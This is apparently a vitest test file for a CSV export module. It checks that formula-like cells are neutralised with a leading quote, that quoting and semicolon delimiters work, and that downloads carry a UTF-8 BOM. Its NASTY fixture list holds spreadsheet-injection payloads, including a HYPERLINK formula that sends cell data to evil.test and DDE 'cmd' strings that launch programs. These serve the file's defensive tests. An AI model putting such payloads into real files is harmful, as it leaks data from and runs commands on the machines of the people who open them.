import { describe, expect, it } from "vitest";
import { parseCsv } from "./parse-csv.ts";
import { csvCell, csvDownloadBlob, isFormulaLike, toCsv } from "./write-csv.ts";

// the review's cells (issue 36 item 13) and OWASP's other leading characters
const NASTY = [
  '=HYPERLINK("http://evil.test/?d="&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1",
];

describe("csvCell", () => {
  it.each(NASTY)("neutralises %j: a leading quote, and quoted", (cell) => {
    const out = csvCell(cell);
    expect(out.startsWith(`"'`)).toBe(true);
    expect(out.endsWith('"')).toBe(true);
    // read back as CSV, the cell is the text with a quote in front: a spreadsheet shows it as text
    expect(parseCsv(`h\r\n${out}\r\n`).rows[0][0]).toBe(`'${cell}`);
  });

  it.each([
    ["-5", "-5"],
    ["+3.5", "+3.5"],
    ["-12%", "-12%"],
    ["-1e3", "-1e3"],
    ["Nora", "Nora"],
    ["Berg, Jr.", '"Berg, Jr."'],
    ['say "hi"', '"say ""hi"""'],
    ["a = b", "a = b"],
    ["", ""],
  ])("writes %j as %j", (cell, out) => {
    expect(csvCell(cell)).toBe(out);
  });

  it("writes numbers, booleans and nulls", () => {
    expect([-5, true, null, undefined].map(csvCell)).toEqual(["-5", "true", "", ""]);
  });

  it("a whole export: every nasty cell neutralised, CRLF line ends", () => {
    const csv = toCsv(
      ["name", "note"],
      NASTY.map((n) => [n, "ok"]),
    );
    const back = parseCsv(csv);
    expect(back.rows.map((r) => r[0])).toEqual(NASTY.map((n) => `'${n}`));
    expect(back.rows.every((r) => !isFormulaLike(r[0]))).toBe(true);
    expect(csv.endsWith("\r\n")).toBe(true);
  });

  it("a `;` export for Excel in de/fr/nl: `;` quoted inside a cell, formulas neutralised, read back the same", () => {
    const rows = [
      ["Müller; Söhne", "1.234,50", NASTY[0]],
      ["a\r\nb", 'say "hi"', "-5"],
    ];
    const csv = toCsv(["Firma", "Umsatz", "Notiz"], rows, { delimiter: ";" });
    expect(csv.split("\r\n")[0]).toBe("Firma;Umsatz;Notiz");
    const back = parseCsv(csv);
    expect(back.delimiter).toBe(";");
    expect(back.rows).toEqual([
      ["Müller; Söhne", "1.234,50", `'${NASTY[0]}`],
      ["a\r\nb", 'say "hi"', "-5"],
    ]);
  });
});

describe("csvDownloadBlob", () => {
  it("starts with the UTF-8 BOM (EF BB BF), so Excel reads Müller and not MÃ¼ller; the import drops it", async () => {
    const blob = csvDownloadBlob(
      toCsv(["Name", "Firma"], [["Jörg Müller", "Müller; Söhne"]], { delimiter: ";" }),
    );
    const bytes = Buffer.from(await blob.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(blob.type).toBe("text/csv;charset=utf-8");
    // read back as a file is read on the server (the BOM kept in the text): the header is clean
    const back = parseCsv(bytes.toString("utf8"));
    expect(back.header).toEqual(["Name", "Firma"]);
    expect(back.rows).toEqual([["Jörg Müller", "Müller; Söhne"]]);
  });
});
